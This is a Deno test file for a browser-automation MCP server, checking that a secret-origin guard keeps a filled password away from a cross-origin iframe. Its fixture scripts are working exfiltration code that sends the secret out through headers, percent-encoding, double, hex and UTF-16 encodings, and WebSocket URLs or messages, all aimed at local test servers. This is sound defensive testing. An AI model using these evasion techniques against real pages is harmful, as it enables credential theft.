/**
 * The secret-origin guard reads request headers and percent-decodes (red team s13 #6): a bound
 * page hands the filled value to a cross-origin frame (an ad on the allowed page), which sends
 * it home in a request header, with a letter percent-encoded (`%48unter…`), with a lowercase
 * escape (`%2f`), in a form body encoded the same way, percent-encoded twice, as hex and as a
 * UTF-16 body. Its server never gets the value; a
 * request without it still goes (the frame ran), and the value's own origin still gets it.
 */
import { join } from "node:path";
import { assertEquals, assertTrue } from "./_assert.ts";
import { startStdio } from "./_mcp.ts";
import { eventually } from "./_util.ts";

const SECRET = "Hunter2/SecretXyz";

/** The frame's script: every way out it tries, then a request without the value. */
const FRAME = `<p>widget</p><script>
onmessage = async (e) => {
  const v = e.data, go = (u, o) => fetch(u, o).catch(() => {});
  await Promise.all([
    go("/x/hdr", { headers: { "x-steal": v } }),
    go("/x/hdrenc", { headers: { "x-steal": encodeURIComponent(v).replace("H", "%48") } }),
    go("/x/case?" + v.replace("H", "%48")),
    go("/x/lower?" + v.replace("/", "%2f")),
    go("/x/body", { method: "POST", body: "k=" + v.replace("S", "%53").replace("/", "%2F") }),
    go("/x/twice?" + [...v].map((c) => "%25" + c.charCodeAt(0).toString(16)).join("")),
    go("/x/hex?" + [...new TextEncoder().encode(v)].map((b) => b.toString(16).padStart(2, "0")).join("")),
    go("/x/utf16", { method: "POST", body: Uint16Array.from(v, (c) => c.charCodeAt(0)) }),
  ]);
  await go("/alive");
  parent.postMessage("done", "*");
};</script>`;

/** `text` percent-decoded once (a stray `%` kept). */
const decoded = (text: string) => decodeURIComponent(text.replace(/%(?![0-9a-f]{2})/gi, "%25"));
const HEX = [...new TextEncoder().encode(SECRET)].map((b) => b.toString(16).padStart(2, "0"))
  .join("");

/** Whether a request carries the value: as sent, percent-decoded once or twice, hex, UTF-16. */
function carries(text: string): boolean {
  return [text, decoded(text), decoded(decoded(text)), text.replaceAll("\0", "")].some((t) =>
    t.includes(SECRET)
  ) || text.includes(HEX);
}

/** A server over stdio whose secrets file binds PW to `origin` (in a fresh workspace `ws`). */
async function startBound(origin: string) {
  const ws = await Deno.makeTempDir({ prefix: "browxai-test-exfil-" });
  const secrets = join(ws, "secrets.env");
  await Deno.writeTextFile(secrets, `PW@${origin}=${SECRET}\n`, { mode: 0o600 });
  const mcp = await startStdio({
    workspace: ws,
    env: { BROWX_CAPABILITIES: "read,navigation,action,secrets", BROWX_SECRETS: secrets },
  });
  return { mcp, ws };
}

Deno.test("secret guard: headers and any percent-encoding are read", async () => {
  const hits: Array<{ srv: string; text: string }> = [];
  const serve = (srv: string, page: (u: URL) => string) =>
    Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (req) => {
      const u = new URL(req.url);
      const headers = [...req.headers].map(([k, v]) => `${k}: ${v}`).join("\n");
      hits.push({
        srv,
        text: `${req.method} ${u.pathname}${u.search}\n${headers}\n${await req.text()}`,
      });
      return new Response(page(u), {
        headers: { "content-type": "text/html", "access-control-allow-origin": "*" },
      });
    });
  const b = serve("B", (u) => u.pathname === "/frame" ? FRAME : "ok");
  const bOrigin = `http://localhost:${b.addr.port}`;
  const a = serve(
    "A",
    (u) =>
      u.pathname === "/login"
        ? `<label>Password <input id=pw type=password></label>
<form method=post action=/home><input type=hidden id=h name=h><button id=home>home</button></form>
<iframe id=ifr src="${bOrigin}/frame"></iframe><script>
pw.addEventListener("input", () => {
  h.value = pw.value;
  if (pw.value.length >= ${SECRET.length}) ifr.contentWindow.postMessage(pw.value, "*");
});
onmessage = () => fetch("/frame-done");</script>`
        : "ok",
  );
  const aOrigin = `http://127.0.0.1:${a.addr.port}`;
  const { mcp, ws } = await startBound(aOrigin);
  try {
    await mcp.ok("navigate", { url: `${aOrigin}/login`, snapshot: "none" });
    await eventually(() => hits.some((h) => h.text.startsWith("GET /frame")), 5000, "the frame");
    await mcp.call("fill", { selector: "#pw", value: "{{secret:PW}}", snapshot: "none" });
    await eventually(
      () => hits.some((h) => h.srv === "A" && h.text.startsWith("GET /frame-done")),
      10_000,
      "the frame's tries",
    );
    const b = hits.filter((h) => h.srv === "B");
    assertTrue(b.some((h) => h.text.startsWith("GET /alive")), "the frame ran");
    assertEquals(b.filter((h) => carries(h.text)).map((h) => h.text.split("\n")[0]), []);
    // Its own origin still gets it.
    await mcp.ok("click", { selector: "#home", submits: true, snapshot: "none" });
    await eventually(
      () =>
        hits.some((h) =>
          h.srv === "A" && h.text.startsWith("POST /home") &&
          carries(h.text)
        ),
      5000,
      "the value at its own origin",
    );
  } finally {
    await mcp.close();
    await a.shutdown();
    await b.shutdown();
    await Deno.remove(ws, { recursive: true }).catch(() => {});
  }
});

/**
 * The frame's WebSocket ways out: the value in the handshake URL, or in messages on a socket
 * opened clean before (sent every 50 ms, until the socket ends).
 */
const WS_FRAME = (b: string) =>
  `<p>widget</p><script>
onmessage = (e) => {
  const v = e.data;
  if (location.hash === "#url") new WebSocket("${b}/steal?v=" + encodeURIComponent(v));
  else {
    const s = new WebSocket("${b}/clean");
    s.onopen = () => setInterval(() => s.send(JSON.stringify({ v })), 50);
  }
};</script>`;

Deno.test("secret guard: a WebSocket carrying a bound value is told at once", async (t) => {
  const sockets: Array<{ path: string; messages: number; closed: boolean }> = [];
  const b: Deno.HttpServer<Deno.NetAddr> = Deno.serve({
    hostname: "127.0.0.1",
    port: 0,
    onListen() {},
  }, (req): Response => {
    if (req.headers.get("upgrade") !== "websocket") {
      return new Response(WS_FRAME(`ws://localhost:${b.addr.port}`), {
        headers: { "content-type": "text/html" },
      });
    }
    const { socket, response } = Deno.upgradeWebSocket(req);
    const s = { path: new URL(req.url).pathname, messages: 0, closed: false };
    sockets.push(s);
    socket.onmessage = () => s.messages++;
    socket.onclose = () => s.closed = true;
    return response;
  });
  const bOrigin = `http://localhost:${b.addr.port}`;
  const a = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (req) => {
    const how = new URL(req.url).searchParams.get("how");
    return new Response(
      `<label>Password <input id=pw type=password></label>
<iframe id=ifr src="${bOrigin}/frame#${how}"></iframe><script>
pw.addEventListener("input", () => {
  if (pw.value.length >= ${SECRET.length}) ifr.contentWindow.postMessage(pw.value, "*");
});</script>`,
      { headers: { "content-type": "text/html" } },
    );
  });
  const aOrigin = `http://127.0.0.1:${a.addr.port}`;
  const { mcp, ws } = await startBound(aOrigin);
  try {
    for (const how of ["url", "message"]) {
      await t.step(`the value in the socket's ${how}: told`, async () => {
        const page = `${aOrigin}/?how=${how}`;
        await mcp.ok("navigate", { url: page, snapshot: "none" });
        await eventually(
          async () => {
            const r = await mcp.call("snapshot", {});
            return JSON.stringify(r.structuredContent).includes("widget");
          },
          5000,
          "the frame",
        );
        const r = await mcp.call("fill", { selector: "#pw", value: "{{secret:PW}}" });
        const next = r.isError ? r : await mcp.call("snapshot", {});
        const s = next.structuredContent as Record<string, Record<string, unknown>>;
        assertTrue(next.isError === true, JSON.stringify(s));
        assertEquals(s.policy?.rule, "secret-origin", JSON.stringify(s));
        assertTrue(JSON.stringify(s).includes("may have been sent"), JSON.stringify(s));
      });
    }
  } finally {
    await mcp.close();
    await a.shutdown();
    await b.shutdown();
    await Deno.remove(ws, { recursive: true }).catch(() => {});
  }
});
